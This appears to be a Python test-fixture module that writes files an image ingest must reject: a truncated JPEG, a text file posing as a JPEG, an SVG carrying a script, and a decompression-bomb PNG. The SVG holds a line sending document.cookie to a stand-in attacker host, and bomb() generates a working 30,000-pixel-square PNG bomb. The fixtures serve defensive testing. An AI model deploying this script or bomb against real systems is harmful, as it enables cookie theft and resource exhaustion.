"""Files that an ingest must refuse, each for one cause."""

import struct
import zlib
from pathlib import Path
from typing import Final

SCRIPTED: Final = """<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400" viewBox="0 0 400 400">
 <circle cx="200" cy="200" r="150" fill="#3d5a45"/>
 <script>fetch("https://attacker.example/?c=" + document.cookie)</script>
</svg>
"""


def write_broken(folder: Path, sound: bytes) -> list[dict[str, str]]:
    """Write the files; ``sound`` is a JPEG to cut short. Return file and cause of each."""
    (folder / "TDM_interrupted.jpg").write_bytes(sound[: len(sound) * 2 // 5])
    (folder / "TDM_banner_huge.png").write_bytes(bomb(30_000))
    (folder / "logo.svg").write_text(SCRIPTED, encoding="utf-8")
    (folder / "TDM_notes.jpg").write_text("Retouch list: remove the thread on the left cuff.\n" * 8, encoding="utf-8")
    return [
        {"file": "shoot/TDM_banner_huge.png", "cause": "decompression_bomb"},
        {"file": "shoot/TDM_interrupted.jpg", "cause": "truncated"},
        {"file": "shoot/TDM_notes.jpg", "cause": "not_an_image"},
        {"file": "shoot/logo.svg", "cause": "active_content"},
    ]


def bomb(side: int) -> bytes:
    """Return a valid grey PNG of ``side`` × ``side`` black pixels: small here, ``side``² bytes decoded.

    The stream of zeros is one compressed piece repeated, which takes milliseconds instead of seconds.
    """
    length = side * (side + 1)  # a filter byte per line
    piece = 1 << 20
    packer = zlib.compressobj(9, wbits=-15)
    head = packer.compress(bytes(piece)) + packer.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, wbits=-15)
    tail = last.compress(bytes(length % piece)) + last.flush()
    # Adler-32 of n zeros (RFC 1950): the low half stays 1, the high half counts n modulo 65521.
    check = struct.pack(">I", (length % 65521) << 16 | 1)
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    stream = b"\x78\xda" + head * (length // piece) + tail + check
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", stream) + chunk(b"IEND", b"")


def chunk(kind: bytes, content: bytes) -> bytes:
    """Return a PNG chunk."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
